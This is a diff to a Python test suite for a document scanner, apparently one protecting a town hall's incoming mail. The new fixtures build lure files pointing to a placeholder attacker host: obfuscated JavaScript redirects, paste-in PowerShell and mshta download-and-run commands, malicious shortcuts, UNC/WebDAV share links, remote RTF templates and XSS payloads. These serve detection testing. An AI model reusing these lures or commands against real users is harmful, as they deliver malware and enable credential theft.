@@ -97,6 +97,46 @@ LEADS: dict[str, bytes] = {
     ),
     "pdf, a form": pressed(f"/S/SubmitForm/F<</FS/URL/F({EVIL})>>"),
     "pdf, a script": pressed(f"/S/JavaScript/JS(app.launchURL\\('{EVIL}'\\))"),
+    "page that begins with a text": f"Bonjour,<br><a href='{EVIL}'>Voir</a>".encode(),
+    "page without a head": f"<body><div><a href={EVIL}>Voir</a></div></body>".encode(),
+    "page with a base": f"<html><base href='{EVIL[:-3]}'><a href='abc'>Voir</a></html>".encode(),
+    "page with a base and a path": f"<html><base target=x href={EVIL[:-6]}x/y?z><a href='/go/abc'></html>".encode(),
+    "page with a base and a host": f"<html><base href={EVIL[:9]}><a href='{EVIL[6:]}'></html>".encode(),
+    "page, put together": page(f"location='{EVIL[:9]}' + '{EVIL[9:20]}' +\n \"{EVIL[20:]}\""),
+    "page, escaped": page("location='" + "".join(f"\\x{ord(one):02x}" for one in EVIL) + "'"),
+    "page, escaped by u": page("location='" + "".join(f"\\u{ord(one):04x}" for one in EVIL) + "'"),
+    "page, numbers": page(f"location=String.fromCharCode({','.join(str(ord(one)) for one in EVIL)})"),
+    "page, a command to paste": page(f"navigator.clipboard.writeText('mshta {EVIL} # Vérification')"),
+    "text of a document, a command to paste": samples.pdf(f"Win+R puis: powershell -c iwr {EVIL} | iex"),
+    "shortcut of the web": f"[InternetShortcut]\r\nURL={EVIL}\r\n".encode(),
+    "shortcut of the web, a share": f"[InternetShortcut]\nURL=file://{EVIL[8:24]}@SSL/go/abc\n".encode(),
+    "shortcut of a Mac": f"<plist><dict><key>URL</key><string>{EVIL}</string></dict></plist>".encode(),
+    "shortcut, a command": samples.shortcut("powershell.exe", f"-w hidden iwr {EVIL}|iex"),
+    "shortcut, a share": samples.shortcut(f"\\\\{EVIL[8:24]}@SSL\\DavWWWRoot\\go\\abc", ""),
+    "script": f"var x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', '{EVIL}', 0);".encode(),
+    "script of PowerShell": f"$u='{EVIL}'\nInvoke-WebRequest -Uri $u -OutFile $env:TEMP\\a.exe".encode("utf-16"),
+    "script of the command line": f"@echo off\r\ncurl -o %TEMP%\\a.exe {EVIL}\r\n".encode(),
+    "library": f"<libraryDescription><url>\\\\{EVIL[8:24]}@ssl\\go\\abc</url></libraryDescription>".encode(),
+    "search connector": f"<searchConnectorDescription><url>{EVIL}</url></searchConnectorDescription>".encode(),
+    "pdf, another file": pressed(f"/S/GoToR/F({EVIL})"),
+    "pdf, a base": samples.pdf(
+        catalog=f"/URI<</Base({EVIL[:-3]})>>",
+        page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(abc)>>>>]",
+    ),
+    "pdf, a bookmark": samples.pdf(
+        catalog="/Outlines<</First 6 0 R/Last 6 0 R>>",
+        more=(f"<</Title(Voir)/A<</S/URI/URI({EVIL})>>>>".encode(),),
+    ),
+    "table, a query": samples.xlsx(
+        **{"xl/connections__xml": f"<connections><connection><webPr url='{EVIL}'/></connection></connections>".encode()}
+    ),
+    "table of lines, a formula": f'nom;lien\r\nVoir;"=HYPERLINK(""{EVIL}"";""Voir"")"\r\n'.encode(),
+    "drawing of Visio": samples.docx(
+        **{"visio/pages/page1__xml": f"<Row N='r'><Cell N='Address' V='{EVIL}'/></Row>".encode()}
+    ),
+    "document without its end": samples.docx(
+        **{"word/_rels/document__xml__rels": tied("hyperlink", EVIL)}
+    ).partition(b"PK\x01\x02")[0],
     "mail of Outlook": samples.ole({"__substg1.0_1000001F": f"Voir {EVIL} ".encode("utf-16-le")}),
     "mail of Outlook, a page": samples.ole({"__substg1.0_10130102": f"<a href='{EVIL}'>Voir</a>".encode()}),
 }  # fmt: skip
@@ -134,6 +174,14 @@ HELD: dict[str, tuple[bytes, str]] = {
     "template of a share": (with_template("file:///\\\\evil.example.net@80\\x.dotm"), kinds.MALWARE),
     "template of a number": (with_template("http://3232235777/x.dotm"), kinds.MALWARE),
     "template of rtf": (f"{{\\rtf1{{\\*\\template {EVIL}}}x}}".encode(), kinds.MALWARE),
+    "template of rtf, escaped": (
+        (r"{\rtf1{\*\template " + "".join(f"\\u{ord(one)}?" for one in EVIL) + "}x}").encode(),
+        kinds.MALWARE,
+    ),
+    "template of rtf, in bytes": (
+        (r"{\rtf1{\*\template " + "".join(f"\\'{ord(one):02x}" for one in EVIL) + "}x}").encode(),
+        kinds.MALWARE,
+    ),
     "template in one XML": (
         b"<?xml version='1.0'?><pkg:package>" + tied("attachedTemplate", EVIL) + b"</pkg:package>",
         kinds.MALWARE,
@@ -149,6 +197,22 @@ HELD: dict[str, tuple[bytes, str]] = {
         kinds.PROGRAM,
     ),
     "a name that leads out": (zipped(("..\\..\\Startup\\a.txt", b"x")), kinds.DISGUISED),
+    "pdf, a share": (pressed(r"/S/GoToR/F(\\\\evil.example.net\\go)"), kinds.ACTIVE_PDF),
+    "pdf, a share, on opening": (
+        samples.pdf(catalog=r"/OpenAction<</S/GoToE/F<</UF(\\\\evil.example.net\\go)>>/D[0/Fit]>>"),
+        kinds.ACTIVE_PDF,
+    ),
+    "page that leads on, in another spelling": (
+        b"<html><meta http-equiv = 'refresh' content='0;url=https://a.example'></html>",
+        kinds.ACTIVE_PAGE,
+    ),
+    "page, a handler behind a stroke": (b"<html><svg/onload=alert(1)></html>", kinds.ACTIVE_PAGE),
+    "page, a script spelt otherwise": (
+        b"<html><a href='java&#115;c\nript:alert(1)'>x</a>",
+        kinds.ACTIVE_PAGE,
+    ),
+    "sandbox": (zipped(("a.wsb", b"<Configuration/>")), kinds.PROGRAM),
+    "update of Windows": (zipped(("a.msu", b"MSCF")), kinds.PROGRAM),
     "remote desktop": (packed(bureau__rdp=b"full address:s:evil.example.net\r\n"), kinds.PROGRAM),
     "search": (zipped(("dossier.searchconnector-ms", b"<x/>")), kinds.PROGRAM),
     "settings": (zipped(("a.settingcontent-ms", b"<x/>")), kinds.PROGRAM),
@@ -200,6 +264,9 @@ WEEKLY: dict[str, bytes] = {
     "contact with a photo": b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJ\r\n RgABAQ==\r\nEND:VCARD\r\n",
     "coat of arms": (DRAWN % "<image xlink:href='data:image/png;base64,iVBORw0KGgo='/>").encode(),
     "invoice with its XML": samples.CARRIES.replace(b"a.exe", b"f.xml").replace(EXE, b"<x>".ljust(len(EXE))),
+    "pdf that opens another one": pressed("/S/GoToR/F(annexe.pdf)"),
+    "pdf that opens one of the town hall's server": pressed(r"/S/GoToR/F(\\\\SERVEUR\\Actes\\plu.pdf)"),
+    "page with a long name of a page": b"<html><p title='a'>x</p><a href='https://a.example/once=1'>y</a></html>",
     "tar.gz of the land register": samples.made("ustar", "gzip", {"E0000A01.THF": b"x"}),
 }  # fmt: skip
 
@@ -226,6 +293,12 @@ def test_of_what_is_packed_anew_for_each_reader_the_file_in_it_is_told(name: str
 @pytest.mark.parametrize("name", WEEKLY)
 def test_what_a_town_hall_receives_every_week_passes(name: str) -> None:
     assert look(WEEKLY[name]).found == {}
+
+
+def test_what_no_command_fetches_and_what_lies_near_by_leads_nowhere() -> None:
+    near = b"[InternetShortcut]\r\nURL=file://SERVEUR/commun/a.exe\r\n\\\\192.168.1.10\\a \\\\srv.mairie.lan\\b\r\n"
+    assert look(near).links == look(f"Voir {EVIL}\r\n".encode()).links == []
+    assert look(samples.pdf(f"Voir {EVIL} ou curl")).links == []
 
 
 def test_a_name_that_is_no_text_hides_no_file_of_a_pdf() -> None:
